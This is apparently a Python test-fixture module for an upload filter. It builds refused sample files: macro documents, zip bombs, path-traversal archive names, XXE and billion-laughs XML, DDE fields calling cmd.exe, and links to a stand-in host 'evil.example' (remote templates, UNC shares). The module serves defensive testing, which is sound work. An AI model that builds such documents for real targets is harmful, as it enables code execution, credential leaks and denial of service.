"""Files that somebody might try to have others open: by name, each of them to be refused, and for which reason."""

import zipfile
from io import BytesIO
from struct import pack

from app.core.uploads.kinds import Code
from tests.evidence.hostile_media import EXE, HTML, SVG, XXE, a_zip, pdfs, pictures, texts
from tests.support.uploads import (
    OFFICE,
    W,
    docx,
    pdf,
    pptx,
    relations,
    xlsx,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
DTD = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_EXCEL = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
RELS_OF_DOCUMENT = "word/_rels/document.xml.rels"


def _outside(kind: str, target: str) -> bytes:
    return docx(parts={RELS_OF_DOCUMENT: relations(("rId9", f"{OFFICE}/{kind}", target, True))})


def _encrypted_member() -> bytes:
    made = bytearray(docx())
    at = -1
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        while (at := made.find(signature, at + 1)) >= 0:
            made[at + flags] |= 1
        at = -1
    return bytes(made)


def _lying_size() -> bytes:
    """The directory says ten bytes; there are many megabytes."""
    made = bytearray(docx(parts={"word/media/image1.bmp": b"A" * 30_000_000}))
    at = made.rfind(b"PK\x01\x02", 0, made.rfind(b"word/media/image1.bmp"))
    made[at + 24 : at + 28] = pack("<I", 10)
    return bytes(made)


def _duplicate() -> bytes:
    held = BytesIO(docx())
    with zipfile.ZipFile(held, "a") as archive:
        archive.writestr("WORD/document.xml", "<x/>")
    return held.getvalue()


def _gap() -> bytes:
    """A web page between two members: the directory moves by its length."""
    made = docx()
    start = made.rfind(b"PK\x01\x02", 0, made.find(b"PK\x01\x02") + 1)
    moved = bytearray(made[:start] + HTML + made[start:])
    end = moved.rfind(b"PK\x05\x06")
    moved[end + 16 : end + 20] = pack("<I", start + len(HTML))
    return bytes(moved)


def _traversal(name: str) -> bytes:
    held = BytesIO(docx())
    with zipfile.ZipFile(held, "a") as archive:
        archive.writestr(name, "<x/>")
    return held.getvalue()


def _entries() -> bytes:
    return docx(parts={f"word/media/i{n}.xml": b"" for n in range(5200)})


def _nested() -> bytes:
    inner = xlsx(parts={"xl/embeddings/again.xlsx": xlsx()})
    return docx(parts={"word/embeddings/sheet.xlsx": inner})


def _field(instruction: str) -> str:
    return f'<w:document xmlns:w="{W}"><w:p><w:instrText>{instruction}</w:instrText></w:p></w:document>'


def files() -> dict[str, tuple[bytes, Code]]:
    """{name: (content, why it is refused)}; the names differ, so that a test can say which one came through."""
    return _names() | _packages() | _relations() | pdfs() | pictures() | texts()


def _names() -> dict[str, tuple[bytes, Code]]:
    return {
        "run.exe": (EXE, Code.ending),
        "page.html": (HTML, Code.ending),
        "drawing.svg": (SVG, Code.ending),
        "macro.docm": (docx(), Code.ending),
        "macro.xlsm": (xlsx(), Code.ending),
        "archive.zip": (a_zip({"a.txt": b"a"}), Code.ending),
        "old.doc": (OLE, Code.ending),
        "script.js": (b"alert(1)", Code.ending),
        "audit.pdf.exe": (EXE, Code.ending),
        "no-ending": (b"text", Code.ending),
        "empty.pdf": (b"", Code.empty),
        "exe.pdf": (EXE, Code.content),
        "exe.docx": (EXE, Code.content),
        "html.pdf": (HTML, Code.content),
        "html.png": (HTML, Code.content),
        "html.jpg": (HTML, Code.content),
        "pdf.docx": (pdf(), Code.content),
        "docx.xlsx": (docx(), Code.content),
        "zip.docx": (a_zip({"a.txt": b"a"}), Code.content),
        "old.docx": (OLE, Code.protected),
    }


def _packages() -> dict[str, tuple[bytes, Code]]:
    return {
        "macro-type.docx": (docx(main=MACRO_WORD), Code.macros),
        "macro-type.xlsx": (xlsx(main=MACRO_EXCEL), Code.macros),
        "vba.docx": (docx(parts={"word/vbaProject.bin": OLE}), Code.macros),
        "vba-case.xlsx": (xlsx(parts={"xl/VBAPROJECT.BIN": OLE}), Code.macros),
        "xlm.xlsx": (xlsx(parts={"xl/macrosheets/sheet1.xml": "<x/>"}), Code.macros),
        "activex.docx": (docx(parts={"word/activeX/activeX1.xml": "<x/>"}), Code.embedded),
        "ole.docx": (docx(parts={"word/embeddings/oleObject1.bin": OLE}), Code.embedded),
        "exe-inside.pptx": (pptx(parts={"ppt/embeddings/run.exe": EXE}), Code.embedded),
        "exe-as-picture.docx": (docx(parts={"word/media/image1.png": EXE}), Code.embedded),
        "ole-as-picture.docx": (docx(parts={"word/media/image1.emf": OLE}), Code.embedded),
        "html-inside.docx": (docx(parts={"word/afchunk.html": HTML}), Code.embedded),
        "nested.docx": (_nested(), Code.embedded),
        "macro-inside.docx": (
            docx(parts={"word/embeddings/a.xlsx": xlsx(parts={"xl/vbaProject.bin": OLE})}),
            Code.macros,
        ),
        "bomb.docx": (docx(parts={"word/media/image1.bmp": b"\0" * 120_000_000}), Code.unpacked),
        "ratio.xlsx": (xlsx(parts={"xl/styles.xml": "<x>" + " " * 5_000_000 + "</x>"}), Code.unpacked),
        "lying.docx": (_lying_size(), Code.damaged),
        "entries.docx": (_entries(), Code.unpacked),
        "duplicate.docx": (_duplicate(), Code.hidden),
        "gap.docx": (_gap(), Code.hidden),
        "comment.docx": (docx()[:-2] + pack("<H", len(HTML)) + HTML, Code.hidden),
        "appended.docx": (docx() + HTML, Code.hidden),
        "prepended.docx": (HTML + docx(), Code.content),
        "traversal.docx": (_traversal("../../etc/cron.xml"), Code.hidden),
        "absolute.docx": (_traversal("/etc/cron.xml"), Code.hidden),
        "locked.docx": (_encrypted_member(), Code.protected),
        "cut.docx": (docx()[:-200], Code.damaged),
        "laughs.docx": (docx(parts={"word/styles.xml": DTD + "<x>&b;</x>"}), Code.entities),
        "xxe.xlsx": (xlsx(parts={"xl/styles.xml": XXE}), Code.entities),
        "utf16.docx": (docx(parts={"word/styles.xml": XXE.encode("utf-16")}), Code.entities),
        "other-encoding.docx": (
            docx(parts={"word/styles.xml": '<?xml version="1.0" encoding="UTF-7"?><x/>'}),
            Code.entities,
        ),
        "svg-inside.pptx": (pptx(parts={"ppt/media/image1.svg": SVG}), Code.external),
    }


def _relations() -> dict[str, tuple[bytes, Code]]:
    dde = "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
    formula = "<worksheet><sheetData><row><c><f>cmd|'/c calc'!A1</f></c></row></sheetData></worksheet>"
    return {
        "template.docx": (_outside("attachedTemplate", "https://evil.example/a.dotm"), Code.external),
        "ole-link.docx": (_outside("oleObject", "file:///c:/a.exe"), Code.embedded),
        "picture-link.docx": (_outside("image", "https://evil.example/track.png"), Code.external),
        "unc-link.docx": (_outside("hyperlink", "\\\\evil.example\\share"), Code.external),
        "script-link.docx": (_outside("hyperlink", "javascript:alert(1)"), Code.external),
        "file-link.docx": (_outside("hyperlink", "file:///c:/windows/system32/calc.exe"), Code.external),
        "frame.docx": (_outside("frame", "https://evil.example"), Code.embedded),
        "control.docx": (
            docx(parts={RELS_OF_DOCUMENT: relations(("rId9", f"{OFFICE}/control", "a.xml", False))}),
            Code.embedded,
        ),
        "dde.docx": (docx(parts={"word/footer1.xml": _field("DDEAUTO c:\\\\cmd.exe")}), Code.external),
        "dde-plain.docx": (docx(parts={"word/footer1.xml": _field(" DDE excel a b")}), Code.external),
        "dde.xlsx": (xlsx(parts={"xl/externalLinks/externalLink1.xml": dde}), Code.external),
        "dde-formula.xlsx": (xlsx(parts={"xl/worksheets/sheet2.xml": formula}), Code.external),
        "refresh.xlsx": (
            xlsx(parts={"xl/connections.xml": '<connections><connection refreshOnLoad="1"/></connections>'}),
            Code.external,
        ),
        "webservice.xlsx": (
            xlsx(parts={"xl/worksheets/sheet2.xml": "<f>_xlfn.WEBSERVICE(A1)</f>"}),
            Code.external,
        ),
        "program.pptx": (
            pptx(parts={"ppt/slides/slide2.xml": '<a action="ppaction://program"/>'}),
            Code.external,
        ),
        "rels-entities.docx": (docx(parts={RELS_OF_DOCUMENT: XXE}), Code.entities),
    }
